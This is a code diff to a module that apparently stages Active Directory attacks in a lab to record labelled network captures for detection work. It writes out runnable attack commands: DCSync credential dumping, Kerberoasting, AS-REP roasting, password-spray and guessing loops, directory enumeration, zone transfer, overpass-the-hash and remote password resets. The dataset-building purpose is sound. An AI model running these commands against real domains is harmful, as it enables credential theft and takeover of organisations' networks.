@@ -9,6 +9,7 @@ from sample_pcaps.hospital import DOMAIN, HOSTS
 from sample_pcaps.lab.domain import (
     NEEDS,
     PASSWORD,
+    SERVICES,
     USER_PASSWORD,
     USERS,
     domain_controller,
@@ -38,10 +39,11 @@ def _attack(
         domain_controller(stage["DC1"])
         attacker = stage[_ATTACKER.name]
         attacker.write("users", "\n".join(USERS) + "\n")
+        attacker.write("services", "\n".join(SERVICES) + "\n")
         with stage.happens(_truth(what, *techniques)):
             for words in commands:
-                told = attacker.run(*words, check=False, timeout_s=60,
-                                    environment=kerberos(attacker))  # fmt: skip
+                environment = {} if "python3" in words[0] else kerberos(attacker)
+                told = attacker.run(*words, check=False, timeout_s=60, environment=environment)
                 stage.note(f"{Path(words[1]).name if 'python3' in words[0] else words[0]}: "
                            f"{told.strip()[-160:]}")  # fmt: skip
 
@@ -51,8 +53,17 @@ def _attack(
 _ADMIN = f"{DOMAIN}/administrator:{PASSWORD}@{_DC.ip}"
 _USER = f"{DOMAIN}/{USERS[4]}:{USER_PASSWORD}"
 _RPC = ("rpcclient", "-U", f"{USERS[4]}%{USER_PASSWORD}", _DC.ip, "-c")
+_LDAP = ("ldapsearch", "-x", "-H", f"ldap://{_DC.ip}", "-D", f"{USERS[4]}@{DOMAIN}", "-w",
+         USER_PASSWORD, "-b", ",".join(f"DC={part}" for part in DOMAIN.split(".")))  # fmt: skip
 _SPRAY = (
     "for user in $(cat users) nobody1 nobody2; do echo Winter2026 | kinit $user; sleep 0.2; done"
+)
+_SPRAY_SMB = (
+    f"for user in $(cat users); do smbclient -U $user%Winter2026 //{_DC.ip}/sysvol -c ls; done"
+)
+_SPRAY_LDAP = (
+    f"for user in $(cat users); do ldapwhoami -x -H ldap://{_DC.ip} -w Winter2026 "
+    f"-D $user@{DOMAIN}; done"
 )
 _GUESS = "for n in $(seq 25); do echo Guess$n | kinit administrator; done"
 
@@ -61,36 +72,41 @@ _ATTACKS: tuple[tuple[str, str, tuple[str, ...], tuple[tuple[str, ...], ...]], .
     ("dcsync", "secretsdump copies all password data (DCSync)", ("T1003.006",),
      (impacket("secretsdump", "-just-dc", _ADMIN),)),
     ("kerberoast", "GetUserSPNs asks for service tickets to crack", ("T1558.003",),
-     (impacket("GetUserSPNs", "-request", "-dc-ip", _DC.ip, _USER),)),
+     (impacket("GetUserSPNs", "-usersfile", "services", "-dc-ip", _DC.ip, _USER),)),
     ("asrep-roast", "GetNPUsers asks for accounts without pre-authentication", ("T1558.004",),
      (impacket("GetNPUsers", f"{DOMAIN}/", "-usersfile", "users", "-dc-ip", _DC.ip, "-no-pass"),)),
     ("spray-kerberos", "one password tried on twelve accounts by Kerberos", ("T1110.003",),
      (("sh", "-c", _SPRAY),)),
     ("guess-kerberos", "25 passwords tried on one account by Kerberos", ("T1110.001",),
      (("sh", "-c", _GUESS),)),
-    ("spray-smb", "one password tried on ten accounts by SMB (hydra)", ("T1110.003",),
-     (("hydra", "-t", "1", "-L", "users", "-p", "Winter2026", "-W", "1", f"smb2://{_DC.ip}"),)),
-    ("spray-ldap", "one password tried on ten accounts by LDAP (hydra)", ("T1110.003",),
-     (("hydra", "-t", "1", "-L", "users", "-p", "Winter2026", f"ldap3://{_DC.ip}"),)),
-    ("enumerate-rpc", "rpcclient lists accounts, groups, shares, policy", ("T1087", "T1069", "T1135"),
+    ("spray-smb", "one password tried on ten accounts by SMB (smbclient)", ("T1110.003",),
+     (("sh", "-c", _SPRAY_SMB),)),
+    ("spray-ldap", "one password tried on ten accounts by LDAP (ldapwhoami)", ("T1110.003",),
+     (("sh", "-c", _SPRAY_LDAP),)),
+    ("enumerate-rpc", "rpcclient lists accounts, groups, policy", ("T1087", "T1069", "T1135"),
      ((*_RPC, "enumdomusers;enumdomgroups;querygroupmem 0x200;queryuser 0x1f4;getdompwinfo;"
        "netshareenum;lsaquery;lookupnames administrator"),)),
     ("enumerate-sam", "samrdump lists all accounts", ("T1087",),
      (impacket("samrdump", f"{_USER}@{_DC.ip}"),)),
     ("enumerate-sids", "lookupsid walks through all RIDs", ("T1087", "T1069"),
      (impacket("lookupsid", f"{_USER}@{_DC.ip}"),)),
-    ("enumerate-ldap", "GetADUsers asks the directory for every person", ("T1087.002",),
-     (impacket("GetADUsers", "-all", "-dc-ip", _DC.ip, _USER),)),
+    ("enumerate-ldap", "ldapsearch asks for all persons, administrators, service accounts",
+     ("T1087.002",),
+     tuple((*_LDAP, f"({wanted})", "sAMAccountName", "description") for wanted in
+           ("&(objectCategory=person)(objectClass=user)", "adminCount=1",
+            "servicePrincipalName=*"))),
     ("zone-transfer", "dig asks for the whole zone", ("T1087", "T1590", "T1018"),
      (("dig", "+time=2", f"@{_DC.ip}", DOMAIN, "AXFR"),)),
     ("overpass", "a ticket asked for with an RC4 hash only", ("T1550.002", "T1558", "T1550"),
      (impacket("getTGT", f"{DOMAIN}/{USERS[5]}", "-dc-ip", _DC.ip, "-hashes",
                ":00000000000000000000000000000001"),)),
     ("reset-password", "an account's password is set remotely", ("T1098", "T1531"),
-     ((*_RPC[:2], f"administrator%{PASSWORD}", _DC.ip, "-c", f"setuserinfo2 {USERS[6]} 24 Nusumi-2026"),)),
+     ((*_RPC[:2], f"administrator%{PASSWORD}", _DC.ip, "-c",
+       f"setuserinfo2 {USERS[6]} 24 Nusumi-2026"),)),
     ("add-computer", "addcomputer makes a machine account", ("T1136.002", "T1136"),
      (impacket("addcomputer", "-computer-name", "LABX$", "-computer-pass", "Lab-Comp-2026",
-               "-dc-ip", _DC.ip, "-method", "SAMR", _USER),)),
+               "-dc-ip", _DC.ip, "-method", "SAMR",
+               f"{DOMAIN}/administrator:{PASSWORD}"),)),
 )  # fmt: skip
 
 
@@ -108,13 +124,14 @@ def logon_day(stage: Stage) -> None:
             terminal.run("dig", "+time=2", f"@{_DC.ip}", f"dc1.{DOMAIN}")
 
 
+_NEEDS = (*NEEDS, IMPACKET, "rpcclient:smbclient", "ldapwhoami:ldap-utils", "dig:bind9-dnsutils")
 STORIES = (
     *(
         Story(
             f"ad-{name}",
             what,
             _attack(what, techniques, *commands),
-            (*NEEDS, IMPACKET, "rpcclient:smbclient", "hydra:hydra", "dig:bind9-dnsutils"),
+            _NEEDS,
             ("DC1", _ATTACKER.name),
             is_short=False,
             limit_s=200,
